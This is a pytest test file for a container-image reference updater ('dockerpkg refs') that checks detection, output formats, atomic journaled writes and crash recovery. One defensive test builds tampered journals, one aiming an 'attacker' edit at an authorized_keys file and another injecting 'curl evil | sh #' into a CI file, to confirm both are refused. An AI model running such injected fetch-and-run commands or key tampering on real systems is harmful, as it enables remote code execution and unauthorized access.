"""refs: references to the tree's images in other files, their states, the edits, and the
all-or-nothing write (fixtures/refs: a tree and a folder of files using its images in every
form: CI jobs, Helm values, a Kubernetes manifest, a compose file with CRLF lines, a script)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import attrs
import pytest

from dockerpkg.api import refs
from dockerpkg.api.workspace import load_workspace
from dockerpkg.cli import main
from dockerpkg.core import refsrender
from dockerpkg.core.editmatch import EditRules
from dockerpkg.core.refsplan import (
    Published,
    SkippedFile,
    SkipReason,
    TreeFacts,
    UseState,
    edited_text,
    file_digest,
    find_uses,
)
from dockerpkg.effects.changelogs import write_new_file
from dockerpkg.effects.refsfiles import read_candidates
from dockerpkg.effects.refswrites import FileEdit, file_edits, finish_interrupted, write_edits
from dockerpkg.effects.workfiles import REFS_JOURNAL
from dockerpkg.errors import DockerPkgError
from tests.support.golden import GOLDEN, check_golden

ROOT = Path(__file__).resolve().parents[2]
FIXTURE = ROOT / "fixtures" / "refs"
REGISTRY = "docker-registry.example.org"
DIGEST = "sha256:" + "a" * 64
NEW_DIGEST = "sha256:" + "b" * 64
FACTS = TreeFacts(
    prefixes=(f"{REGISTRY}/team", "team"),
    current={"app": "1.1", "tools": "2.0-1"},
    versions={"app": frozenset({"1.0", "1.1"}), "tools": frozenset({"2.0-1"})},
)


def run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    status = main(argv)
    out, err = capsys.readouterr()
    return status, out, err


def snapshot(folder: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()
    }


@pytest.fixture
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of fixtures/refs without the unknown reference (which would block --apply),
    and the current folder there: paths in outputs are relative to it."""
    target = tmp_path / "refs"
    shutil.copytree(FIXTURE, target)
    manifest = target / "uses" / "k8s" / "deployment.yaml"
    lines = manifest.read_text(encoding="utf-8").splitlines(keepends=True)
    manifest.write_text("".join(lines[:-2]), encoding="utf-8")
    monkeypatch.chdir(target)
    return target


def ignore_binaries(work: Path) -> None:
    config = work / "config.yaml"
    config.write_text(
        config.read_text(encoding="utf-8") + "refs:\n  ignore: ['*.bin']\n", encoding="utf-8"
    )


class TestFilesNotLookedThrough:
    """A file that may hold references and is not read is said, by name and in JSON; with
    --detailed-exitcode the run exits 1 (it cannot tell all references are current). UTF-16
    files with a byte order mark are read, and their references judged, but not edited."""

    OLD = "docker-registry.example.org/team/app:1.0"

    def test_a_large_file_holding_a_reference(
        self, work: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        ignore_binaries(work)
        big = work / "uses" / "big.yaml"
        filler = "# " + "x" * 1021 + "\n"
        with big.open("w", encoding="utf-8") as handle:
            handle.write(filler * (17 * 1024))
            handle.write(f"image: {self.OLD}\n")
        quiet = work / "uses" / "quiet.log"
        quiet.write_text(filler * (17 * 1024), encoding="utf-8")  # large, but no reference
        args = ["-c", "config.yaml", "refs", "--detailed-exitcode", "--json", "tree", "uses"]
        status, out, err = run(args, capsys)
        assert status == 1
        assert (
            "uses/big.yaml: warning: not looked through: larger than 16 MiB, and holds 'team/'"
        ) in err
        assert "quiet.log" not in err
        data = json.loads(out)
        assert data["skipped"] == [
            {
                "path": "uses/big.yaml",
                "reason": "too_large",
                "detail": "larger than 16 MiB, and holds 'team/'",
            }
        ]
        assert "1 not looked through" not in out  # JSON: the list says it
        text_status, text, _ = run(["-c", "config.yaml", "refs", "tree", "uses"], capsys)
        assert text_status == 0  # without --detailed-exitcode: the warning only
        assert text.endswith("(6 read, 1 not looked through).\n")
        big.unlink()
        assert run(args, capsys)[0] == 2  # the outdated references of the other files

    @pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
    def test_a_utf16_file_is_read_not_edited(
        self, encoding: str, work: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        ignore_binaries(work)
        shutil.rmtree(work / "uses")
        (work / "uses").mkdir()
        wide = work / "uses" / "windows.yaml"
        mark = "\ufeff".encode(encoding)
        original = mark + f"name: app\r\nimage: {self.OLD}\r\n".encode(encoding)
        wide.write_bytes(original)
        args = ["-c", "config.yaml", "refs", "--detailed-exitcode", "tree", "uses"]
        status, out, err = run(args, capsys)
        assert status == 2, err
        assert "not looked through" not in err
        assert out.splitlines()[0] == (
            f"outdated      uses/windows.yaml:2:8  {self.OLD}  (a UTF-16 file, which refs reads "
            "but does not edit: change it by hand)"
        )
        assert run([*args[:3], "--apply", "tree", "uses"], capsys)[0] == 0
        assert wide.read_bytes() == original
        (work / "uses" / "windows.yaml").write_bytes(
            mark + "image: docker-registry.example.org/team/app:1.1\n".encode(encoding)
        )
        status, out, _ = run(args, capsys)
        assert status == 0
        assert out.startswith("current ")

    def test_a_file_that_cannot_be_read_is_said(self, work: Path) -> None:
        # (A folder given as a file: what a file without read permission gives a non-root.)
        read = read_candidates([str(work / "uses")], b"team/")
        assert read.skipped == (
            SkippedFile(
                str(work / "uses"), SkipReason.UNREADABLE, "cannot read it: Is a directory"
            ),
        )
        assert read.count == 0


class TestOutputs:
    @pytest.mark.parametrize("fmt", ["text", "json", "markdown"])
    def test_golden(
        self, fmt: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.chdir(FIXTURE)
        status, out, err = run(
            ["-c", "config.yaml", "refs", "--format", fmt, "tree", "uses"], capsys
        )
        # A reference to an image the tree does not have is an error: a deleted image in use.
        assert status == 1
        assert (
            "uses/k8s/deployment.yaml:12: error: docker-registry.example.org/team/retired:0.9: "
            "no image of the tree is called retired"
        ) in err
        check_golden(f"refs/refs.{ {'text': 'txt', 'json': 'json', 'markdown': 'md'}[fmt] }", out)

    def test_detailed_exitcode(self, work: Path, capsys: pytest.CaptureFixture[str]) -> None:
        args = ["-c", "config.yaml", "refs", "--detailed-exitcode", "tree", "uses"]
        # uses/blob.bin holds a reference, but is binary: not looked through, so refs cannot
        # say every reference is current.
        status, _, err = run(args, capsys)
        assert status == 1
        assert "uses/blob.bin: warning: not looked through: binary" in err
        assert "1 file(s) that may hold references were not looked through" in err
        ignore_binaries(work)
        assert run(args, capsys)[0] == 2
        assert run([*args[:3], "--apply", "tree", "uses"], capsys)[0] == 0
        # What is left outdated: a reference by digest, which only --online can rewrite.
        status, out, _ = run(args, capsys)
        assert status == 2
        [left] = [line for line in out.splitlines() if line.startswith("outdated")]
        assert "deployment.yaml:8:18" in left
        assert "run with --online" in left

    def test_paths_from_the_config(self, work: Path, capsys: pytest.CaptureFixture[str]) -> None:
        config = work / "config.yaml"
        config.write_text(
            config.read_text(encoding="utf-8") + "refs:\n  paths: [uses]\n  ignore: ['*.sh']\n",
            encoding="utf-8",
        )
        status, out, _ = run(["-c", "config.yaml", "refs", "tree"], capsys)
        assert status == 0
        assert "uses/ci/jobs.yml:3:10" in out
        assert "run.sh" not in out


def test_a_git_checkout_is_walked_as_git_lists_it(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Tracked and untracked files, but not what .gitignore ignores (nor .git itself)."""
    uses = work / "uses"
    (uses / ".gitignore").write_text("build/\n", encoding="utf-8")
    (uses / "build").mkdir()
    (uses / "build" / "out.yaml").write_text(f"image: {REGISTRY}/team/app:0.1\n")
    env = {"PATH": os.environ["PATH"], "HOME": str(work), "GIT_CONFIG_NOSYSTEM": "1"}
    for args in (["init", "-q"], ["add", "ci"]):
        subprocess.run(["git", *args], cwd=uses, env=env, check=True)
    status, out, _ = run(["-c", "config.yaml", "refs", "tree", "uses"], capsys)
    assert status == 0
    assert "uses/build/out.yaml" not in out
    assert "uses/ci/jobs.yml:3:10" in out  # tracked
    assert "uses/scripts/run.sh:4:13" in out  # untracked, not ignored


class TestApply:
    def test_only_the_outdated_references_change(
        self, work: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        before = snapshot(work / "uses")
        status, _, err = run(["-c", "config.yaml", "refs", "--apply", "tree", "uses"], capsys)
        assert status == 0, err
        after = snapshot(work / "uses")
        assert after.keys() == before.keys()
        golden = GOLDEN / "refs" / "after"
        for name, data in after.items():
            if os.environ.get("DOCKERPKG_REGENERATE") == "1":
                (golden / name).parent.mkdir(parents=True, exist_ok=True)
                (golden / name).write_bytes(data)
            assert data == (golden / name).read_bytes(), name
        assert after["compose.yaml"] == before["compose.yaml"]  # pinned and current only
        assert after["ci/jobs.yml"] != before["ci/jobs.yml"]
        assert not (work / "tree" / REFS_JOURNAL).exists()

    def test_a_saved_plan_is_refused_when_a_file_changed(
        self, work: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        args = ["-c", "config.yaml", "plan", "refs", "--out", "refs.json", "tree", "uses"]
        assert run(args, capsys)[0] == 0
        script = work / "uses" / "scripts" / "run.sh"
        script.write_text(script.read_text(encoding="utf-8") + "# edited\n", encoding="utf-8")
        before = snapshot(work / "uses")
        status, _, err = run(["-c", "config.yaml", "apply", "refs.json", "uses"], capsys)
        assert status == 1
        assert "uses/scripts/run.sh: error: changed since the plan was made" in err
        assert snapshot(work / "uses") == before
        script.write_text(script.read_text(encoding="utf-8").replace("# edited\n", ""))
        assert run(["-c", "config.yaml", "apply", "refs.json", "uses"], capsys)[0] == 0
        assert "team/app:1.1 ./test" in script.read_text(encoding="utf-8")

    def test_files_outside_the_folders_named_are_not_edited(
        self, work: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        outside = work.parent / "outside"
        outside.mkdir()
        job = outside / "job.yaml"
        job.write_text(f"image: {REGISTRY}/team/app:1.0\n", encoding="utf-8")
        args = ["-c", "config.yaml", "plan", "refs", "--out", "refs.json", "tree", str(outside)]
        assert run(args, capsys)[0] == 0
        # Given as a PATH it may be edited; a saved plan reaches the tree, the config's refs:
        # paths and the PATHs given to apply only (never the current folder by default).
        status, _, err = run(["-c", "config.yaml", "apply", "refs.json"], capsys)
        assert status == 1
        assert "outside the tree and the folders given on the command line" in err
        assert job.read_text(encoding="utf-8") == f"image: {REGISTRY}/team/app:1.0\n"
        args = ["-c", "config.yaml", "apply", "refs", "refs.json", str(outside)]
        assert run(args, capsys)[0] == 0
        assert job.read_text(encoding="utf-8") == f"image: {REGISTRY}/team/app:1.1\n"

    def test_a_failing_write_changes_nothing(self, work: Path) -> None:
        before = snapshot(work / "uses")
        plan = refs.refs_plan("tree", "config.yaml", {}, ["uses"]).plan
        edits = file_edits(plan.edits, {f.path: f.sha256 for f in plan.files}, str(work))
        assert len(edits) >= 3
        calls = []

        def third_fails(path: str, data: bytes, mode: int) -> None:
            calls.append(path)
            if len(calls) == 3:
                raise OSError(28, "No space left on device")
            write_new_file(path, data, mode)

        rules = refs.edit_rules(load_workspace("tree", "config.yaml", {}, render=False))
        with pytest.raises(DockerPkgError) as caught:
            write_edits("tree", edits, [str(work)], third_fails, rules=rules)
        assert "No space left on device; nothing was changed" in caught.value.problems[0].message
        assert len(calls) == 3
        assert snapshot(work / "uses") == before
        assert not (work / "tree" / REFS_JOURNAL).exists()

    def test_a_run_killed_while_swapping_is_finished_by_the_next(
        self, work: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        expected = snapshot(GOLDEN / "refs" / "after")
        real_replace = os.replace
        replaced: list[str] = []

        class Killed(BaseException):
            """As SIGKILL: nothing after it runs (no undo: it is no OSError)."""

        def dies_after_one(source: str, target: str) -> None:
            if replaced:
                raise Killed
            replaced.append(target)
            real_replace(source, target)

        monkeypatch.setattr(os, "replace", dies_after_one)
        with pytest.raises(Killed):
            main(["-c", "config.yaml", "refs", "--apply", "tree", "uses"])
        monkeypatch.setattr(os, "replace", real_replace)
        capsys.readouterr()
        assert (work / "tree" / REFS_JOURNAL).exists()
        assert snapshot(work / "uses") != expected  # one file written, the others not
        # Other verbs do not act on a half-written change: they say how to finish it.
        refused = run(["-c", "config.yaml", "plan", "--offline", "tree"], capsys)
        assert refused[0] == 1
        assert "`dockerpkg refs tree` finishes it" in refused[2]
        status, out, err = run(["-c", "config.yaml", "refs", "tree", "uses"], capsys)
        assert status == 0
        assert "an interrupted refs --apply was finished" in err
        assert snapshot(work / "uses") == expected
        assert not (work / "tree" / REFS_JOURNAL).exists()
        assert " -> " not in out  # nothing outdated is left


class TestUpdateRefs:
    def test_entries_and_users_in_one_write(
        self, work: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("DEBFULLNAME", "Test Maintainer")
        monkeypatch.setenv("DEBEMAIL", "maintainer@example.org")
        config = work / "config.yaml"
        config.write_text(config.read_text(encoding="utf-8") + "refs:\n  paths: [uses]\n")
        args = ["-c", "config.yaml", "update", "app", "--version", "1.2", "--refs", "tree"]
        status, out, err = run(args, capsys)
        assert status == 0, err
        assert (
            (work / "tree" / "app" / "changelog")
            .read_text(encoding="utf-8")
            .startswith("app (1.2) ")
        )
        assert "team/app:1.0 -> team/app:1.2" in out
        jobs = (work / "uses" / "ci" / "jobs.yml").read_text(encoding="utf-8")
        assert "image: docker-registry.example.org/team/app:1.2\n" in jobs
        assert "team/app:1.0  # dockerpkg: pin" in jobs
        assert "moved 7 reference(s) in 3 file(s)" in err
        assert "uses/blob.bin: warning: not looked through: binary" in err
        assert not (work / "tree" / REFS_JOURNAL).exists()

    def test_an_unknown_reference_writes_nothing(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        target = tmp_path / "refs"
        shutil.copytree(FIXTURE, target)
        monkeypatch.chdir(target)
        config = target / "config.yaml"
        config.write_text(config.read_text(encoding="utf-8") + "refs:\n  paths: [uses]\n")
        before = snapshot(target)
        args = ["-c", "config.yaml", "update", "app", "--version", "1.2", "--refs", "tree"]
        status, _, err = run(args, capsys)
        assert status == 1
        assert "reference(s) to images the tree does not have" in err
        assert snapshot(target) == before


class TestStates:
    def test_forms(self) -> None:
        text = (
            f"a: {REGISTRY}/team/app:1.0\n"
            "b: team/app:1.1\n"
            f"c: {REGISTRY}/team/app\n"
            f"d: {REGISTRY}/team/app:1.0  // dockerpkg: pin - see ticket 12\n"
            f"e: <!-- dockerpkg: pin --> {REGISTRY}/team/tools:1.0\n"
            f"f: {REGISTRY}/team/gone:1.0\n"
            f"g: {REGISTRY}/teamx/app:1.0 x{REGISTRY}/team/app:1.0 {REGISTRY}/team/app:1.0/x\n"
            f"h: cp {REGISTRY}/team/app/config.yaml .\n"
            f"i: Pull {REGISTRY}/team/app:1.1.\n"
        )
        uses = find_uses("f.yaml", text, FACTS)
        states = [(u.line, u.state, u.edited, u.note) for u in uses]
        assert states == [
            (1, UseState.OUTDATED, f"{REGISTRY}/team/app:1.1", ""),
            (2, UseState.CURRENT, None, ""),
            (3, UseState.CURRENT, None, ""),
            (4, UseState.PINNED, None, "see ticket 12"),
            (5, UseState.PINNED, None, ""),
            (6, UseState.UNKNOWN, None, "no image of the tree is called gone"),
            (9, UseState.CURRENT, None, ""),  # the full stop ends the sentence, not the tag
        ]
        assert uses[0].column == 4

    def test_base_images_in_the_same_registry_are_neither_used_nor_unknown(self) -> None:
        """docker-pkg trees often have a registry and no namespace, bases beside images."""
        facts = attrs.evolve(FACTS, prefixes=(REGISTRY,), external=frozenset({"bookworm"}))
        text = f"{REGISTRY}/bookworm:20260301 {REGISTRY}/app:1.0 {REGISTRY}/gone:1\n"
        uses = find_uses("f", text, facts)
        assert [(u.text, u.state) for u in uses] == [
            (f"{REGISTRY}/app:1.0", UseState.OUTDATED),
            (f"{REGISTRY}/gone:1", UseState.UNKNOWN),
        ]

    def test_online(self) -> None:
        text = (
            f"{REGISTRY}/team/app:1.0@{DIGEST}\n"
            f"{REGISTRY}/team/app@{DIGEST}\n"
            f"{REGISTRY}/team/app:1.1@{NEW_DIGEST}\n"
            f"{REGISTRY}/team/tools:1.9\n"
        )
        published = {
            "app": Published(frozenset({"1.1"}), NEW_DIGEST),
            "tools": Published(frozenset(), None),
        }
        uses = find_uses("f", text, FACTS, published)
        assert [(u.state, u.edited) for u in uses] == [
            (UseState.OUTDATED, f"{REGISTRY}/team/app:1.1@{NEW_DIGEST}"),
            (UseState.OUTDATED, f"{REGISTRY}/team/app@{NEW_DIGEST}"),
            (UseState.CURRENT, None),
            (UseState.NOT_PUBLISHED, None),
        ]
        assert "2.0-1 is not in the registry yet" in uses[3].note

    def test_edits_keep_every_other_character(self) -> None:
        text = f"x\r\n\tç {REGISTRY}/team/app:1.0;team/app:1.0\r\n\udcff"
        uses = find_uses("f", text, FACTS)
        assert edited_text(text, uses) == (
            f"x\r\n\tç {REGISTRY}/team/app:1.1;team/app:1.1\r\n\udcff"
        )

    def test_a_journal_of_another_run_is_not_overwritten(self, tmp_path: Path) -> None:
        target = tmp_path / "f.txt"
        target.write_bytes(b"team/app:1.0\n")
        (tmp_path / REFS_JOURNAL).write_text("{}", encoding="utf-8")
        edit = FileEdit("f.txt", str(target), file_digest(b"team/app:1.0\n"), ((9, 12, "1.1"),))
        with pytest.raises(DockerPkgError, match="interrupted refs --apply"):
            write_edits(str(tmp_path), [edit], [], rules=EditRules(FACTS))
        assert target.read_bytes() == b"team/app:1.0\n"
        with pytest.raises(DockerPkgError, match="cannot read the journal"):
            finish_interrupted(str(tmp_path), [], EditRules(FACTS))

    def test_a_journal_naming_a_file_elsewhere_is_refused(self, tmp_path: Path) -> None:
        """A tree may come from anyone: its journal must not be a way to write elsewhere."""
        tree, elsewhere = tmp_path / "tree", tmp_path / "elsewhere"
        tree.mkdir()
        elsewhere.mkdir()
        victim = elsewhere / "authorized_keys"
        victim.write_bytes(b"key\n")
        digest = file_digest(b"key\n")
        journal = {
            "format": 1,
            "files": [
                {"shown": "k", "path": str(victim), "before": digest, "after": "x",
                 "edits": [[0, 0, "attacker "]]}
            ],
        }  # fmt: skip
        (tree / REFS_JOURNAL).write_text(json.dumps(journal), encoding="utf-8")
        with pytest.raises(DockerPkgError, match="outside the tree and the folders given"):
            finish_interrupted(str(tree), [str(tree / "ci")], EditRules(FACTS))
        assert victim.read_bytes() == b"key\n"
        # Inside the folder, a journal may still only move tags and digests.
        inside = tree / "ci.yml"
        inside.write_bytes(b"image: team/app:1.0\n")
        journal["files"] = [
            {"shown": "ci.yml", "path": str(inside), "before": file_digest(inside.read_bytes()),
             "after": "x", "edits": [[0, 5, "curl evil | sh #"]]}
        ]  # fmt: skip
        (tree / REFS_JOURNAL).write_text(json.dumps(journal), encoding="utf-8")
        with pytest.raises(DockerPkgError, match="not in a reference to an image of the tree"):
            finish_interrupted(str(tree), [], EditRules(FACTS))
        assert inside.read_bytes() == b"image: team/app:1.0\n"


def test_mistyped_refs_plans_are_errors_not_crashes(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Each field of a real saved refs plan set to each wrong value: applying it gives a
    DockerPkgError, or makes only the edits the plan as made makes; never another error."""
    args = ["-c", "config.yaml", "plan", "refs", "--out", "refs.json", "tree", "uses"]
    assert run(args, capsys)[0] == 0
    data = json.loads(Path("refs.json").read_text(encoding="utf-8"))
    before = snapshot(work / "uses")
    refs.write_saved_refs(
        refsrender.plan_from_json(json.dumps(data), "r"), "config.yaml", {}, ["uses"]
    )
    after = snapshot(work / "uses")
    wrong_values: tuple[object, ...] = (-1, 10**9, "", "x", "x\x00", None, [], {})

    def places(value: object, path: tuple[object, ...] = ()) -> list[tuple[object, ...]]:
        found = [path] if path else []
        if isinstance(value, dict):
            for key, item in value.items():
                found += places(item, (*path, key))
        elif isinstance(value, list):
            for index, item in enumerate(value[:2]):
                found += places(item, (*path, index))
        return found

    refused = 0
    for place in places(data):
        for wrong in wrong_values:
            mutated = json.loads(json.dumps(data))
            target = mutated
            for part in place[:-1]:
                target = target[part]
            target[place[-1]] = wrong
            for name, content in before.items():  # each try starts from the files as planned
                (work / "uses" / name).write_bytes(content)
            try:
                plan = refsrender.plan_from_json(json.dumps(mutated), "r")
                refs.write_saved_refs(plan, "config.yaml", {}, ["uses"])
            except DockerPkgError:
                refused += 1
                assert snapshot(work / "uses") == before, (place, wrong)
            else:
                assert _within(snapshot(work / "uses"), before, after), (place, wrong)
    assert refused > 100


def _within(now: dict[str, bytes], before: dict[str, bytes], after: dict[str, bytes]) -> bool:
    """Whether each line of each file of NOW is its line BEFORE or AFTER the plan as made
    (a plan doing less than that plan is fine; one doing anything else is not)."""
    for name, content in now.items():
        lines = content.splitlines()
        old, new = before[name].splitlines(), after[name].splitlines()
        if not len(lines) == len(old) == len(new):
            return False
        if any(line not in (a, b) for line, a, b in zip(lines, old, new, strict=True)):
            return False
    return now.keys() == before.keys()
